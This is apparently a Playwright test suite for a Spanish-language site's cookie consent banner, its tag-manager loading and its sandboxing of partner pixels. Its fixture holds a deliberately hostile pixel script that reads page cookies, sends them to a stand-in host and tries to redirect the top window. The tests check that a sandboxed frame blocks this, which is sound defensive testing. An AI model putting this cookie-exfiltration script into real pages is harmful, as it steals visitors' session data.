import type { Page } from "playwright/test";
import { expect } from "./application-pages.ts";
import { allowAll, consentDialog as dialog, test } from "./consent-pages.ts";

const referral = "/pixels/v1/submitPartnerReferralAndEntryPixels";
const pixelHost = "https://pixel.socio.example";
test.use({
  settings: { site: { TAG_MANAGER_ID: "GTM-ABCD12", ADS_ID: "AW-123456789" } },
  partners: {
    [referral]: {
      success: true,
      partnerReferralId: "R-77",
      // This script tries to do what a hostile partner would: read the page, and change its address.
      pixel_code: `<script>
        let stolen = "nothing";
        try { stolen = parent.document.cookie } catch {}
        try { stolen = document.cookie } catch {}
        new Image().src = "${pixelHost}/1.gif?stolen=" + encodeURIComponent(stolen);
        try { top.location = "${pixelHost}/" } catch {}
      </script>`,
    },
  },
});

const preferences = (page: Page) => page.getByRole("dialog", { name: "Administrar preferencias" });
const dataLayer = (page: Page) =>
  page.evaluate(() =>
    ((window as unknown as { dataLayer?: ArrayLike<unknown>[] }).dataLayer ?? []).map((entry) =>
      "length" in entry ? Array.from(entry) : entry,
    ),
  );

test("no request leaves for another host before consent; after it only what was allowed, denied by default first", async ({
  page,
  foreign,
}) => {
  await page.goto("/");
  await expect(dialog(page)).toBeVisible();
  expect(foreign).toEqual([]);
  expect(await dataLayer(page)).toEqual([]);

  await allowAll(page);
  await expect.poll(() => foreign.length).toBe(2);
  expect(foreign.map(({ url }) => url).sort()).toEqual([
    "https://www.googletagmanager.com/gtag/js?id=AW-123456789",
    "https://www.googletagmanager.com/gtm.js?id=GTM-ABCD12",
  ]);
  const [first, second] = await dataLayer(page);
  const all = ["ad_storage", "ad_user_data", "ad_personalization", "analytics_storage"];
  expect(first).toEqual(["consent", "default", Object.fromEntries(all.map((name) => [name, "denied"]))]);
  expect(second).toEqual(["consent", "update", Object.fromEntries(all.map((name) => [name, "granted"]))]);

  // The next page does not ask again, and the edge knows the choice.
  await page.goto("/opciones-de-privacidad");
  await expect(page.getByLabel("Publicidad")).toBeChecked();
  await expect(dialog(page)).toBeHidden();
});

test("tags find src and lnk in their data layer and in plain cookies; Ads loads when advertising is allowed later", async ({
  page,
  foreign,
}) => {
  // Allowing advertising lets the partner's pixel leave too, before the tags or after them.
  const tags = () => foreign.map(({ url }) => url).filter((url) => !url.startsWith(pixelHost));
  await page.goto("/?src=1100461&lnk=a%20b");
  await dialog(page).getByRole("button", { name: "Elegir" }).click();
  await preferences(page)
    .getByRole("checkbox", { name: /Análisis/ })
    .check({ force: true });
  await preferences(page).getByRole("button", { name: "Guardar mi elección" }).click();
  await expect.poll(() => tags().length).toBe(1);
  expect(tags()[0]).toContain("gtm.js");
  expect(await dataLayer(page)).toContainEqual({ src: "1100461", lnk: "a b" });
  expect(await page.evaluate(() => document.cookie)).toMatch(/(?:^|; )src=1100461(?:;|$)/);

  // The visitor allows advertising on the same page, without opening another page in between.
  await page.getByRole("button", { name: "Administrar preferencias" }).click();
  await preferences(page).getByRole("button", { name: "Permitir todo" }).click();
  await expect.poll(() => tags().length).toBe(2);
  expect(tags()[1]).toContain("gtag/js?id=AW-123456789");
  const updates = (await dataLayer(page)).filter((entry) => JSON.stringify(entry).includes('"update"'));
  expect(updates.at(-1)).toMatchObject(["consent", "update", { ad_storage: "granted" }]);
});

test("the footer's button opens the preferences on every page, by keyboard too, and a change takes effect", async ({
  page,
  foreign,
}) => {
  await page.goto("/opciones-de-privacidad");
  await page.getByLabel("Análisis").check();
  await page.getByRole("button", { name: "Guardar mis preferencias" }).click();
  await expect(page.getByRole("status")).toHaveText("Guardamos sus preferencias.");
  await page.goto("/quienes-somos");
  await expect.poll(() => foreign.length).toBe(1);

  // The application asks for personal data, so the tag manager is not loaded there.
  await page.goto("/auto-credito/solicitud");
  const button = page.getByRole("button", { name: "Administrar preferencias" });
  await button.focus();
  await page.keyboard.press("Enter");
  await expect(preferences(page)).toBeVisible();
  // The dialog shows the choices that were made on the page of privacy options.
  await expect(preferences(page).getByRole("checkbox", { name: /Análisis/ })).toBeChecked();
  await expect(preferences(page).getByRole("checkbox", { name: /Publicidad/ })).not.toBeChecked();
  await preferences(page).getByRole("button", { name: "Solo lo necesario" }).click();
  await expect(preferences(page)).toBeHidden();
  expect(foreign).toHaveLength(1);
  await page.goto("/opciones-de-privacidad");
  await expect(page.getByLabel("Análisis")).not.toBeChecked();
});

test("without JavaScript the footer's button leads to the page of privacy options", async ({
  browser,
  site,
}) => {
  const page = await browser.newPage({ javaScriptEnabled: false, baseURL: site.origin });
  await page.goto("/");
  await page.getByRole("button", { name: "Administrar preferencias" }).click();
  await expect(page).toHaveURL(/\/opciones-de-privacidad\??$/);
  await page.getByLabel("Publicidad").check();
  await page.getByRole("button", { name: "Guardar mis preferencias" }).click();
  await expect(page.getByRole("status")).toHaveText("Guardamos sus preferencias.");
  await expect(page.getByLabel("Publicidad")).toBeChecked();
  await page.close();
});

test.describe("with Global Privacy Control", () => {
  test.use({ extraHTTPHeaders: { "sec-gpc": "1" } });
  test("advertising stays off, and the page says so", async ({ page, foreign }) => {
    await page.goto("/?src=1");
    await allowAll(page);
    await expect.poll(() => foreign.length).toBe(1);
    expect(foreign[0]?.url).toContain("gtm.js");
    const [, update] = await dataLayer(page);
    expect(update).toMatchObject([
      "consent",
      "update",
      { ad_storage: "denied", analytics_storage: "granted", ad_user_data: "denied" },
    ]);
    await page.goto("/opciones-de-privacidad");
    await expect(page.getByLabel("Publicidad")).toBeDisabled();
  });
});

test("a partner's pixel runs after consent, once, in a frame that cannot read the page", async ({
  page,
  foreign,
}) => {
  const pixels = () => foreign.map(({ url }) => url).filter((url) => url.startsWith(pixelHost));
  await page.goto("/?src=1&lnk=pixel");
  await expect(dialog(page)).toBeVisible();
  const waiting = () => page.evaluate(() => sessionStorage.getItem("pixel") ?? "");
  await expect.poll(waiting).toMatch(/^\/visita\/pixel\?v=/);
  expect(pixels()).toEqual([]);
  await allowAll(page);
  await expect.poll(pixels).toEqual([`${pixelHost}/1.gif?stolen=nothing`]);
  await expect(page).toHaveURL(/lnk=pixel/);
  await page.goto("/");
  await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
  await page.goto("/politica-de-cookies");
  expect(pixels()).toHaveLength(1);
});
